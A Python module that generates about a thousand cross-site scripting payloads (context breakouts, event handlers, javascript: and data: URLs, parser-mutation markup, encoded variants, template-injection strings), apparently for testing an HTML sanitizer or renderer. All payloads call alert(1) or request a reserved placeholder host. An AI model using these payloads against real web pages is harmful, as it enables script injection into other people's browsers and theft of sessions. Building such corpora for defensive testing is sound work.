"""Makes some thousand payloads that try to run in a reader's browser, from their parts: ways out of a context, quotes,
encodings, nesting, elements and handlers. All made here; every one calls `alert`, or asks another host for something."""

from __future__ import annotations

import base64
import html
import itertools
import json
import os
import random
import urllib.parse
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path

ELSEWHERE = "elsewhere.invalid"  # a host that nothing may be asked of
CALL = "alert(1)"
ADDRESS = f"//{ELSEWHERE}/x"

# What would have to be closed before an element could open, by the place where a template might put a text.
WAYS_OUT = (
    "", '">', "'>", ">", "-->", "--!>", "]]>", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</pre>",
    "</option></select>", "</template>", "</svg>", "</math>", "</iframe>", "</a>", "</p></section></article></main>", "⟧", "]",
    "}}", "%}", "|", '\\">', "&quot;>", "\n\n", "<!--", "<![CDATA[",
)  # fmt: skip
LOADING = {
    "img": ("src=x", "onerror"), "svg": ("", "onload"), "body": ("", "onload"), "iframe": ("src=about:blank", "onload"),
    "input": ("autofocus", "onfocus"), "video": ("src=x", "onerror"), "audio": ("src=x", "onerror"),
    "details": ("open", "ontoggle"), "object": ("data=x", "onerror"), "embed": ("src=x", "onload"),
    "select": ("autofocus", "onfocus"), "textarea": ("autofocus", "onfocus"), "keygen": ("autofocus", "onfocus"),
    "marquee": ("", "onstart"), "meter": ("", "onmouseover"), "link": ("rel=stylesheet href=x", "onerror"),
    "source": ("src=x", "onerror"), "script": ("src=x", "onerror"), "style": ("", "onload"), "math": ("", "onclick"),
    "a": ("href=#", "onclick"), "mark": ("tabindex=0", "onfocus"), "time": ("style=animation:x", "onanimationstart"),
    "p": ("hidden=until-found", "onbeforematch"), "div": ("contenteditable", "onblur"), "button": ("popovertarget=x", "onclick"),
    "span": ("id=x", "onpointerover"), "em": ("draggable=true", "ondragstart"), "code": ("", "oncopy"), "br": ("", "onwheel"),
}  # fmt: skip
HANDLERS = (
    "onclick", "onmouseover", "onfocus", "onfocusin", "onblur", "onload", "onerror", "onpointerdown", "onkeydown", "onscroll",
    "ontransitionend", "onanimationend", "onbeforetoggle", "ontoggle", "oncut", "onpaste", "oncontextmenu", "onauxclick",
    "onscrollend", "onsecuritypolicyviolation", "oncontentvisibilityautostatechange", "onhashchange", "onmessage", "onresize",
)  # fmt: skip
QUOTES = ("", '"', "'", "`", "“")
SPACES = (" ", "/", "\t", "\n", "\f", "\r", "/ /", "\0", "\u00a0", "\u2028", " \x0b")
SCHEMES = (
    "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "java\0script:", "\x01javascript:",
    "javascript&colon;", "javascript&#58;", "&#106;avascript:", "&#x6A;avascript&Tab;:", "\u2028javascript:",
    "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,", "vbscript:", "view-source:javascript:", "blob:",
    "feed:javascript:", "jar:javascript:", "about:blank#", "file:///", "javascript://%0a", "javascript:%0a", "//", "\\\\",
)  # fmt: skip
CARRIERS = (
    '<a href="{}">x</a>', "<a href='{}'>x</a>", "<a href={}>x</a>", '<iframe src="{}"></iframe>', '<form action="{}"><button>x',
    '<button formaction="{}">x', '<object data="{}"></object>', '<embed src="{}">', '<base href="{}">', '<img src="{}">',
    '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>', '<svg><use href="{}"/></svg>', '<math href="{}">x</math>',
    '<svg><animate attributeName=href values="{}"/></svg>', '<meta http-equiv=refresh content="0;url={}">', "[x]({})",
    "[x](<{}>)", "![x]({})", "<{}>", '[x]: {}\n\n[x]', '<link rel=import href="{}">', '<video poster="{}">',
    '<blockquote cite="{}">x</blockquote>', '<img srcset="{} 1x">', '<area href="{}">', '<iframe srcdoc="{}"></iframe>',
)  # fmt: skip
RAW = (
    "textarea",
    "title",
    "noscript",
    "style",
    "xmp",
    "noembed",
    "noframes",
    "iframe",
    "template",
    "plaintext",
    "listing",
)
FOREIGN = (
    "svg",
    "math",
    "svg><desc",
    "svg><foreignObject",
    "math><mtext",
    "math><annotation-xml encoding=text/html",
    "svg><title",
)
REQUESTS = (
    "<img src={}>", "<link rel=stylesheet href={}>", "<link rel=prefetch href={}>", "<link rel=preconnect href={}>",
    "<script src={}></script>", "<iframe src={}></iframe>", "<video src={} autoplay></video>", "<audio src={}>",
    "<object data={}></object>", "<input type=image src={}>", "<body background={}>", "<table background={}>",
    "<style>@import '{}';</style>", "<style>body{{background:url({})}}</style>", "<p style=background:url({})>x</p>",
    "<svg><image href={} /></svg>", "<svg><use href={}#x /></svg>", "<meta http-equiv=refresh content=0;url={}>",
    "<picture><source srcset={}><img></picture>", "<track src={}>", "<a href=# ping={}>x</a>", "<html manifest={}>",
    "![x]({})", '<img src=x srcset="{} 2x">', "<embed src={}>", "<frameset><frame src={}></frameset>", "<video poster={}>",
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class Payload:
    """`kind` is what the payload tries, for drawing a sample that has some of each."""

    kind: str
    text: str


def generated() -> list[Payload]:
    """All of them, each text once, in the same order every time."""
    makers = (
        _elements,
        _handlers,
        _scripts,
        _addresses,
        _requests,
        _raw,
        _foreign,
        _split,
        _attributes,
        _templates,
        _data,
    )
    seen: dict[str, Payload] = {}
    for maker in makers:
        for text in maker():
            seen.setdefault(text, Payload(maker.__name__.strip("_"), text))
    return list(seen.values())


def collected() -> list[Payload]:
    """Those of the file that CLIPPINGS_PAYLOADS names, one JSON object with `id` and `payload` a line; [] without it."""
    path = os.environ.get("CLIPPINGS_PAYLOADS")
    if not path or not Path(path).is_file():
        return []
    rows = [json.loads(line) for line in Path(path).read_text(encoding="utf-8").splitlines() if line.strip()]
    return [
        Payload(f"collected {str(row['id']).split('/')[0]}", str(row["payload"]))
        for row in rows
        if row["payload"].strip()
    ]


def stratified(payloads: Iterable[Payload], count: int, seed: int) -> list[Payload]:
    """`count` payloads, of every kind as many as of any other as far as there are, drawn by the seed."""
    chance = random.Random(seed)
    kinds: dict[str, list[Payload]] = {}
    for payload in payloads:
        kinds.setdefault(payload.kind, []).append(payload)
    for found in kinds.values():
        chance.shuffle(found)
    drawn = [p for row in itertools.zip_longest(*kinds.values()) for p in row if p]
    return drawn[:count]


# ------------------------------------------------------------------------------------------------------- the makers


def _elements() -> Iterator[str]:
    """An element whose handler fires by itself, behind every way out of a context."""
    for way, (tag, (attribute, handler)) in itertools.product(WAYS_OUT, LOADING.items()):
        yield f"{way}<{tag} {attribute} {handler}={CALL}>"
    for (tag, (attribute, handler)), quote, space in itertools.product(LOADING.items(), QUOTES, SPACES):
        yield f"<{tag}{space}{attribute}{space}{handler}={quote}{CALL}{quote}>"


def _handlers() -> Iterator[str]:
    """A handler on elements that a page may well have."""
    for tag, handler, quote in itertools.product(
        ("a", "mark", "span", "time", "em", "p", "x-card"), HANDLERS, QUOTES[:3]
    ):
        yield f"<{tag} {handler}={quote}{CALL}{quote} tabindex=1>words</{tag}>"


def _scripts() -> Iterator[str]:
    """A script element, written in odd ways."""
    opens = ("<script>", "<SCRIPT>", "<ScRiPt >", "<script\n>", "<script/x>", "<script\0>", "<\0script>", "<script type=module>",
             "<svg><script>", "<script type=text/plain type=module>", "<scr<script>ipt>", "<<script>", "＜script＞", "<script\ufeff>",
             "<script charset=utf-7>", "<svg:script>", "<script xmlns=http://www.w3.org/1999/xhtml>")  # fmt: skip
    closes = ("</script>", "</script ", "</SCRIPT\n>", "</script/>", "", "<!--", "</scr</script>ipt>")
    bodies = (
        CALL,
        f"//\n{CALL}",
        f"<!--\n{CALL}",
        f"/*`*/{CALL}",
        "\\u0061lert(1)",
        "top['al'+'ert'](1)",
        "import('data:,alert(1)')",
    )
    for way, opened, closed, body in itertools.product(("", '">', "-->", "</title>"), opens, closes, bodies):
        yield f"{way}{opened}{body}{closed}"


def _addresses() -> Iterator[str]:
    """An address that runs, in everything that takes an address."""
    page = base64.b64encode(f"<script>{CALL}</script>".encode()).decode()
    for scheme, carrier in itertools.product(SCHEMES, CARRIERS):
        rest = page if "base64" in scheme else f"<script>{CALL}</script>" if scheme.startswith("data:") else CALL
        yield carrier.format(html.escape(f"{scheme}{rest}") if "&" not in scheme else f"{scheme}{rest}")
    for scheme in SCHEMES:
        yield f"{scheme}{CALL}"
        yield f"https://ok.example/{scheme}{CALL}"


def _requests() -> Iterator[str]:
    """Something that a page would fetch from another host."""
    for way, request in itertools.product(("", '">', "</title>", "-->", "</script>", "&gt;"), REQUESTS):
        yield way + request.format(ADDRESS)
        yield way + request.format(f"https:{ADDRESS}")


def _raw() -> Iterator[str]:
    """Markup that is text to one parser and an element to another: after raw text, in attributes, in comments."""
    for outer, inner in itertools.product(RAW, RAW):
        yield f'<{outer}><{inner}></{outer}><img src="</{inner}><img src=x onerror={CALL}>">'
        yield f'<{outer}><a title="</{outer}><img src=x onerror={CALL}>">'
        yield f"<{outer}><!--</{outer}><img src=x onerror={CALL}>--></{inner}>"


def _foreign() -> Iterator[str]:
    """Markup that moves between HTML, SVG and MathML when it is parsed a second time."""
    for outer, inner, raw in itertools.product(
        FOREIGN, FOREIGN, ("style", "title", "textarea", "mglyph><style", "p", "table")
    ):
        yield f'<{outer}><{inner}><{raw}><a id="</{raw.split(">")[0]}><img src=x onerror={CALL}>">'
    for outer, depth in itertools.product(FOREIGN, (2, 40, 300)):
        yield f"<{outer}>" * depth + f"<script>{CALL}</script>"
        yield "<div><form><table>" * depth + f"<{outer}><mtext></form><form><img src=x onerror={CALL}>"


def _split() -> Iterator[str]:
    """Spread over entities, encodings and what a cleaner might take out."""
    plain = f"<img src=x onerror={CALL}>"
    yield html.escape(plain)
    yield html.escape(html.escape(plain))
    yield urllib.parse.quote(plain)
    yield urllib.parse.quote(urllib.parse.quote(plain))
    yield "".join(f"&#{ord(c)};" for c in plain)
    yield "".join(f"&#x{ord(c):x}" for c in plain)
    yield "".join(f"\\x{ord(c):02x}" for c in plain)
    yield "".join(f"\\u{ord(c):04x}" for c in plain)
    yield plain.encode("utf-7").decode()
    yield plain.translate({ord("<"): "\uff1c", ord(">"): "\uff1e"})
    yield plain.translate({ord("<"): "¼", ord(">"): "¾"})
    for mark in (
        "\0",
        "\x0b",
        "\xad",
        "\u200b",
        "\u202e",
        "\ufeff",
        "\ufffe",
        "\x7f",
        "<!-- -->",
        "<b>",
        "&zwj;",
        "⟦",
        "\ud7ff",
    ):
        for at in range(1, len(plain), 2):
            yield plain[:at] + mark + plain[at:]
    for cut in range(1, len(plain)):
        yield f"{plain[:cut]}\n\n{plain[cut:]}"


def _attributes() -> Iterator[str]:
    """Out of an attribute without an angle bracket, with every mix of quotes."""
    for first, second, space, handler in itertools.product(QUOTES, QUOTES, SPACES[:6], HANDLERS[:6]):
        yield f"{first}{second}{space}{handler}={first}{CALL}{second}{space}x={first}"
    for quote in ('"', "'", "&quot;", "&#39;", "&#34", "\\x22"):
        yield f"{quote} autofocus tabindex=1 onfocus={CALL} {quote}"
        yield f"{quote}style={quote}animation:x{quote} onanimationstart={quote}{CALL}"
        yield f"{quote}'src=x onerror={CALL}//{quote}"


def _templates() -> Iterator[str]:
    """Words that a template language, Pelican's links or Markdown would read."""
    for opened, closed in (
        ("{{", "}}"),
        ("{%", "%}"),
        ("{#", "#}"),
        ("${", "}"),
        ("<%", "%>"),
        ("#{", "}"),
        ("{", "}"),
        ("|", "|"),
    ):
        for body in (
            f"''.__class__ ~ '<script>{CALL}</script>'|safe",
            "include 'x'",
            CALL,
            "static",
            "filename",
            "self._TemplateReference__context",
        ):
            yield f"{opened} {body} {closed}<script>{CALL}</script>"
            yield f"{opened}{body}{closed}/../x' onerror={CALL} '"
    for name in ("save_as", "template", "url", "status", "slug"):
        yield f"{name}: ../<script>{CALL}</script>"
    for line in (
        "```html\n{}\n```",
        "    {}",
        "`{}`",
        "> {}",
        "- {}",
        "# {}",
        "| {} |\n|--|\n| {} |",
        "~~{}~~",
        "**{}**",
        "[{0}][{0}]",
    ):
        yield line.format(f"<img src=x onerror={CALL}>", f"<script>{CALL}</script>")


def _data() -> Iterator[str]:
    """Out of a string in a script's data, or of a structure in it."""
    for close in (
        "</script>",
        "</SCRIPT >",
        "<!--<script>",
        "]]></script>",
        "\\u003c/script>",
        '"</script>',
        "'</script>",
        "\u2028",
    ):
        for body in (
            f"<script>{CALL}</script>",
            f"<img src=x onerror={CALL}>",
            f'","x":{CALL}//',
            f'"}};{CALL};//',
            f"';{CALL};//",
        ):
            yield close + body
            yield f"\\{close}{body}"
